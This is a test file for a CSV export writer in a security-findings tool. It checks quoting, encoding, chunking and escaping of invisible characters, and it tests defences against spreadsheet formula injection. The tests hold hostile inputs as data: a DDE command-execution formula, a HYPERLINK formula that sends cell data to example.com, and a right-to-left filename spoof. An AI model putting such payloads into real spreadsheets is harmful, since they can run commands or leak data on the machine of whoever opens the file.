import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvWriter, EVENT_COLUMNS, FINDING_COLUMNS } from '../../../src/core/export/csv.ts';
import { parseCsv } from './parse-csv.ts';

type Cell = string | number;

/** The file of some rows, as text with its byte order mark. */
function write(header: readonly string[], rows: readonly (readonly Cell[])[]): string {
  const writer = new CsvWriter(header);
  for (const row of rows) writer.row(row);
  return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(Buffer.concat(writer.take()));
}

/** One cell, as it comes back. */
function back(cell: Cell): string {
  return parseCsv(write(['a', 'b'], [[cell, 'end']]))[1]![0]!;
}

describe('CsvWriter', () => {
  it('writes RFC 4180: CRLF after each line, quotes where they are needed, doubled inside', () => {
    expect(
      write(
        ['a', 'b'],
        [
          ['plain', 'two words'],
          ['say "hi"', 'a,b'],
          ['one\ntwo', ''],
        ],
      ),
    ).toBe('\ufeffa,b\r\nplain,two words\r\n"say ""hi""","a,b"\r\n"one\ntwo",\r\n');
  });

  it('is UTF-8 with one byte order mark, at the beginning', () => {
    const writer = new CsvWriter(['ä']);
    const first = Buffer.concat(writer.take());
    writer.row(['€']);
    expect([...first]).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa4, 0x0d, 0x0a]);
    expect(Buffer.concat(writer.take())).toEqual(Buffer.from('€\r\n'));
    expect(writer.take()).toEqual([]);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tx',
    '\rx',
    '\nx',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    ' =1',
    '\u00a0=1',
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('guards the formula %j', (cell) => {
    expect(back(cell)).toBe(`'${cell}`);
  });

  it('guards a formula although an unseen character stands before it', () => {
    expect(back('\u0000=1')).toBe('\\u0000=1');
    expect(back('\u202e=1')).toBe('\\u202e=1');
    expect(back('\ufeff=1')).toBe('\\ufeff=1');
  });

  it('cannot be led to begin a cell within a cell', () => {
    expect(parseCsv(write(['a', 'b'], [['x",=1+1,"', 'y\r\n=1+1']]))).toEqual([
      ['a', 'b'],
      ['x",=1+1,"', 'y\r\n=1+1'],
    ]);
  });

  it('exempts numbers, which are ours', () => {
    expect([-1, 1.5, 0, 1e21, NaN].map(back)).toEqual(['-1', '1.5', '0', '1e+21', '']);
  });

  it('shows what cannot be seen, as JSON would write it', () => {
    expect(back('a\u0000b\u001b[31m\u007f\u0085')).toBe('a\\u0000b\\u001b[31m\\u007f\\u0085');
    expect(back('gpj.\u202eexe\u2066')).toBe('gpj.\\u202eexe\\u2066');
    expect(back('zero\u200bwidth\u{e0041}')).toBe('zero\\u200bwidth\\udb40\\udc41');
    expect(back('\ud83d alone, \ud83d\ude00 whole')).toBe('\\ud83d alone, 😀 whole');
    expect(back('tab\tand\r\nline')).toBe('tab\tand\r\nline');
  });

  it('leaves what is common in records alone', () => {
    for (const cell of [
      'arn:aws:sts::123456789012:assumed-role/Admin/alice@example.com',
      '2023-07-10T12:03:25Z',
      '123456789012',
      '2600:1f18::1',
      '[S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.488 Linux/5.10]',
      'Mozilla/5.0 (X11; Linux x86_64)',
      '日本語',
      "it's",
      '',
    ]) {
      expect(back(cell)).toBe(cell);
    }
  });

  it('gives back every cell, but for the guard and the escapes', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom(...'=-",\r\n\t a＝\u0000\u200b\'', '\ud800') }),
      fc.integer(),
    );
    const row = fc.tuple(cell, cell, cell);
    fc.assert(
      fc.property(fc.array(row), (rows) => {
        const parsed = parseCsv(write(['x', 'y', 'z'], rows)).slice(1);
        const unguarded = parsed.map((cells, r) => cells.map((cell, c) => undo(cell, rows[r]![c]!)));
        expect(unguarded).toEqual(rows.map((cells) => cells.map((cell) => unescape(String(cell)))));
        const text = parsed.flatMap((cells, r) => cells.filter((_, c) => typeof rows[r]![c] === 'string'));
        expect(text.filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell))).toEqual([]);
        expect(text.filter((cell) => /(?![\t\r\n])[\p{Cc}\p{Cf}\p{Cs}]/u.test(cell))).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  it('makes chunks of about 1 MB of any number of rows', () => {
    const writer = new CsvWriter(['n', 'text']);
    const text = 'x'.repeat(10_000);
    for (let n = 0; n < 400; n++) writer.row([n, text]);
    const chunks = writer.take();
    expect(chunks.length).toBe(4);
    for (const chunk of chunks) expect(chunk.length).toBeLessThan(1.1 * 1024 * 1024);
    expect(parseCsv(Buffer.concat(chunks).toString())).toHaveLength(401);
  });

  it('refuses a row of another length', () => {
    const writer = new CsvWriter(['a', 'b']);
    expect(() => {
      writer.row(['1']);
    }).toThrow(RangeError);
  });
});

/** What was written, as far as it can be told from what is read: without guard, escapes undone. */
function undo(read: string, given: Cell): string {
  const guarded = read.startsWith("'") && !String(given).startsWith("'");
  return unescape(guarded ? read.slice(1) : read);
}

/** Undoes the escapes, on both sides of a comparison: text may hold `\u0000` spelled out to begin with. */
function unescape(text: string): string {
  return text.replace(/\\u([0-9a-f]{4})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
}

describe('columns', () => {
  it('begin with the promised ones', () => {
    expect(FINDING_COLUMNS.join(',')).toMatch(
      /^event_time,severity,rule_id,rule_name,event_name,event_source,account_id,region,principal,principal_type,source_ip,country,user_agent,error_code,access_key_id,event_id,source_file,source_sha256,record_index,/,
    );
  });

  it('are the same for events, in the same order, without the rule', () => {
    const rule = new Set<string>(['severity', 'rule_id', 'rule_name', 'rule_version']);
    expect(EVENT_COLUMNS.filter((column) => column !== 'alerts')).toEqual(
      FINDING_COLUMNS.filter((column) => !rule.has(column)),
    );
  });
});
